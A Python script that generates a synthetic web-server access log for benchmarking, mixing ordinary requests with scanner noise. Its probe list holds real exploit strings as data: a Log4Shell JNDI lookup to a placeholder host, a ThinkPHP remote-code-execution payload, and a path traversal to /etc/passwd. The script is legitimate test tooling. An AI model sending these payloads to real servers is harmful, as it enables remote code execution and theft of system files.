#!/usr/bin/env python3
"""Writes a synthetic nginx/Apache combined access log for bench/web.sh: mostly ordinary page and asset
requests, with scanner noise (404 bursts, .env/wp-login probes, zgrab/masscan agents), some percent-encoded
and Log4Shell-style requests, X-Forwarded-For on a share of lines, a few TLS-garbage and '-' requests.
Documentation address ranges only. Usage: gen-access.py LINES OUT"""
import random, sys, datetime

lines, out = int(sys.argv[1]), sys.argv[2]
rnd = random.Random(14)
pages = ["/", "/index.php", "/about/", "/blog/2026/03/miner-news/", "/static/app.js", "/static/site.css", "/img/logo.png", "/api/v1/items?page=2&sort=desc", "/search?q=linux+servers", "/login"]
probes = ["/.env", "/wp-login.php", "/phpmyadmin/", "/.git/config", "/cgi-bin/luci", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/..%2f..%2f..%2fetc%2fpasswd", "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id", "/?x=${jndi:ldap://198.51.100.9:1389/a}"]
agents = ["Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0 Safari/537.36", "curl/8.5.0", "Mozilla/5.0 zgrab/0.x", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "python-requests/2.31.0"]
clients = [f"203.0.113.{i}" for i in range(1, 255)] + [f"198.51.100.{i}" for i in range(1, 60)] + ["2001:db8::5", "2001:db8::17"]
t = datetime.datetime(2026, 3, 1, 0, 0, 0)
with open(out, "w") as f:
    for i in range(lines):
        t += datetime.timedelta(milliseconds=rnd.randint(0, 180))
        stamp = t.strftime("%d/%b/%Y:%H:%M:%S +0000")
        c = rnd.choice(clients)
        r = rnd.random()
        if r < 0.002:
            req, status, size = "\\x16\\x03\\x01\\x00\\xca\\x01\\x00\\x00\\xc6\\x03\\x03", 400, 157
        elif r < 0.004:
            req, status, size = "-", 400, 0
        elif r < 0.20:
            req, status, size = f"GET {rnd.choice(probes)} HTTP/1.1", rnd.choice([404, 404, 404, 400, 200, 403]), rnd.randint(150, 600)
        else:
            req, status, size = f"{rnd.choice(['GET'] * 8 + ['POST', 'HEAD'])} {rnd.choice(pages)} HTTP/1.1", rnd.choice([200] * 9 + [304]), rnd.randint(0, 60000)
        ref = "-" if rnd.random() < 0.6 else "https://www.example.org/"
        line = f'{c} - - [{stamp}] "{req}" {status} {size} "{ref}" "{rnd.choice(agents)}"'
        if rnd.random() < 0.2:
            line += f' "{rnd.choice(clients)}"'
        f.write(line + "\n")
